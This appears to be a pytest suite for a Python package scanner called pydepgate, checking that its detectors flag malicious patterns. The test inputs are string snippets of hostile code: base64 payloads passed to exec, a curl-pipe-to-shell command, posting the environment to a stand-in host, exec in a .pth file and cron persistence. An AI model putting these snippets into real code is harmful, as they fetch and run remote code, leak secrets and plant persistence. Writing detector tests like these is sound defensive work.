"""Each detector raises its signals, at the right place, through the door that the scanner uses."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pydepgate.analyse import analyse_member
from pydepgate.model import Member, Signal


def signals(source: str, path: str = "pkg/__init__.py") -> list[Signal]:
    data = source.encode("utf-8", "surrogatepass")
    return list(analyse_member(Member(path, data, len(data))).signals)


_PROGRAM = "import os\nprint('hello', os.getcwd())\n" * 4
_ENCODED = base64.b64encode(_PROGRAM.encode()).decode()

_CASES = [
    (f"import base64\nexec(base64.b64decode('{_ENCODED}'))", "flow.decode-to-exec", (2, 1)),
    (f"import base64 as b\nx = 'é'; eval(b.b64decode('{_ENCODED}'))", "flow.decode-to-exec", (2, 10)),
    ("import base64\nexec(base64.b64decode(x))", "flow.decoded-data-to-exec", (2, 1)),
    ("exec(''.join(chr(ord(c) ^ 7) for c in 'wuni3/6.'))", "flow.decode-to-exec", (1, 1)),
    ("import requests\nexec(requests.get('http://h/').text)", "flow.network-to-exec", (2, 1)),
    ("exec(open('f').read())", "flow.file-to-exec", (1, 1)),
    ("import sys\nexec(sys.argv[1])", "flow.input-to-exec", (2, 1)),
    ("exec('x = 1')", "exec.constant", (1, 1)),
    ("def f(x):\n    return eval(x)", "exec.dynamic", (2, 12)),
    ("getattr(__builtins__, 'ev' + 'al')(x)", "exec.disguised", (1, 1)),
    ("import base64, pickle\npickle.loads(base64.b64decode('gASVAAAAAA=='))", "flow.decode-to-unpickle", (2, 1)),
    ("import base64\n__import__(base64.b64decode('b3M=').decode())", "import.decoded", (2, 1)),
    ("import os\nos.system('ls')", "process.start", (2, 1)),
    ("import os\nos.system('ls')", "process.shell", (2, 1)),
    ("import subprocess as s\ns.run(['a'], shell=True)", "process.shell", (2, 1)),
    ("import os\nos.system('curl http://h/x | sh')", "process.download-and-run", (2, 1)),
    ("import sys, subprocess\nsubprocess.Popen([sys.executable, '-c', 'print(1)'])", "process.python-code", (2, 1)),
    ("getattr(__import__('os'), 'sys' + 'tem')('ls')", "process.disguised", (1, 1)),
    ("import os, base64\nos.system(base64.b64decode('bHM=').decode())", "flow.decode-to-process", (2, 1)),
    ("import os, requests\nos.system(requests.get(u).text)", "flow.network-to-process", (2, 1)),
    ("import requests\nrequests.get('http://h/')", "network.request", (2, 1)),
    ("import os, requests\nrequests.post('http://h/', json=dict(os.environ))", "flow.environ-to-network", (2, 1)),
    ("import base64, requests\nrequests.get(base64.b64decode('aHR0cDovL2gv'))", "flow.decode-to-network", (2, 1)),
    (f"y = 'é', '{_ENCODED}'", "literal.encoded", (1, 10)),
    (f"y = '{_ENCODED[:60]}' + '{_ENCODED[60:]}'", "literal.encoded", (1, 5)),
    (f"y = {list(_PROGRAM.encode())}", "literal.encoded", (1, 5)),
    (f"# {_ENCODED}", "literal.encoded", (1, 3)),
    (f"print 'python 2'\nexec('{_ENCODED}'.decode('base64'))", "literal.encoded", (2, 6)),
]


@pytest.mark.parametrize(("source", "name", "place"), _CASES)
def test_a_behaviour_raises_its_signal_at_its_place(source: str, name: str, place: tuple[int, int]) -> None:
    assert (name, place) in {(signal.name, (signal.line, signal.column)) for signal in signals(source)}


@pytest.mark.parametrize(
    "source",
    [
        "import re\nre.compile('a+').match('b')\n",
        "import os\nx = os.path.join('a', 'b')\nprint(len(x), str(1), int('2'))\n",
        "class A:\n    def execute(self, x):\n        return x\nA().execute('x')\ncursor.execute('select 1')\n",
        "def system(x): ...\nsystem('ls')\n",
        "sha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n",
        '"""A long docstring of plain prose that says what the module is for, and nothing else at all."""\n',
    ],
)
def test_ordinary_code_raises_none(source: str) -> None:
    assert not signals(source)


@pytest.mark.parametrize(
    ("source", "roots"),
    [
        (f"def f():\n    x = '{_ENCODED}'\nf()", {"<module>"}),
        (f"def f():\n    x = '{_ENCODED}'", {"f"}),
        (f"class A:\n    x = '{_ENCODED}'", {"<module>"}),
        (f"class A:\n    def f(self):\n        x = '{_ENCODED}'\nif __name__ == '__main__':\n    A().f()", {"<main>"}),
    ],
)
def test_a_literal_runs_when_the_code_around_it_does(source: str, roots: set[str]) -> None:
    found = [signal for signal in signals(source) if signal.name == "literal.encoded"]
    assert found
    assert all(signal.roots == roots for signal in found)


_NESTED = {
    "lists": "x = " + "[" * 90 + "]" * 90,
    "parentheses": "(" * 10_000 + ")" * 10_000,
    "comprehensions": "x = " + "[" * 60 + "c" + " for a in b]" * 60,
    "clauses": "x = [a " + "for a in b " * 3000 + "]",
    "lambdas": "x = " + "lambda: " * 90 + "1",
    "local calls": "y = " + "(lambda x: x)(" * 60 + "1" + ")" * 60,
    "attributes": "x = a" + ".b" * 1500,
    "methods": "x = 'a'" + ".replace('a', 'b')" * 300,
    "ifs": "\n".join(" " * i + "if x:" for i in range(95)) + "\n" + " " * 95 + "pass",
    "sums": "x = " + "'a' + " * 20_000 + "y",
    "recursion": "def f(x):\n    return g(x + 'a') + g(x)\ndef g(x):\n    return f(x) + f(x)\nf('b')",
    "class of itself": "class A(A): ...\nclass A(A, A, A):\n    def f(self):\n        return self.f().f()\nA().f()",
    "generator": "def g():\n    while True:\n        yield from g()\nfor x in g(): ...",
    "list in itself": "import os\nl = []\nl.append(l)\nm = [u]\nm.append(m)\nos.system(l)\nos.system(m)\nexec(l + m)",
    "doubled lists": "x = 'a'\n" + "x = [x, x]\n" * 100 + "import os\nos.system(x)\nrepr(x)\nx == x\n'%s' % x",
    "doubled unknowns": "x = u\n" + "x = [x, x]\n" * 100 + "import os\nos.system(x)",
    "eval of itself": "s = 'eval(s) + eval(s)'\neval(s)",
    "endless while": "x = 'a'\nwhile x:\n    x = x + 'b'\n    x = x * 1",
    "calls that fan out": "".join(f"def f{i}(x):\n    f{i + 1}(x + 'a'); f{i + 1}(x + 'b')\n" for i in range(60)),
}


@pytest.mark.parametrize("source", _NESTED.values(), ids=_NESTED)
def test_hostile_shapes_are_analysed(source: str) -> None:
    data = source.encode()
    facts = analyse_member(Member("a.py", data, len(data)))
    assert facts.analysed


_SNIPPETS = [source for source, _, _ in _CASES]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(_SNIPPETS), min_size=1, max_size=3), st.integers(0, 400), st.binary(max_size=6))
def test_nothing_raises(parts: list[str], at: int, noise: bytes) -> None:
    data = "\n".join(part[:600] for part in parts).encode()
    data = data[:at] + noise + data[at + len(noise) :]
    for path in ("a.py", "a.pth", "a.bin"):
        analyse_member(Member(path, data, len(data)))


@pytest.mark.parametrize("codec", ["utf-8", "utf_8", "latin-1", "ascii"])
def test_code_in_bytes_that_can_be_read_as_they_are_is_not_hidden(codec: str) -> None:
    names = {signal.name for signal in signals(f"exec(b'x = 1'.decode({codec!r}))")}
    assert "exec.constant" in names
    assert "flow.decode-to-exec" not in names


@pytest.mark.parametrize("codec", ["utf-16-le", "UTF_16_LE"])
def test_code_in_wide_characters_is_hidden(codec: str) -> None:
    assert "flow.decode-to-exec" in {
        signal.name for signal in signals(f"exec({'x = 1'.encode('utf-16-le')!r}.decode({codec!r}))")
    }


def test_a_payload_of_a_later_pth_line_stands_on_that_line() -> None:
    found = signals(f"/a/path\n\nimport base64; exec(base64.b64decode('{_ENCODED}'))\n", "pkg.pth")
    assert {signal.line for signal in found} == {3}
    assert {signal.payload.line for signal in found if signal.payload is not None} == {3}


@pytest.mark.parametrize("shell", ["['bash']", "['sh', '-s']", "'powershell -'"])
def test_what_a_shell_is_given_on_its_standard_input_is_a_command(shell: str) -> None:
    names = {signal.name for signal in signals(f"import subprocess\nsubprocess.run({shell}, input='crontab -')\n")}
    assert "process.unusual" in names
    assert "persist.cron" in names
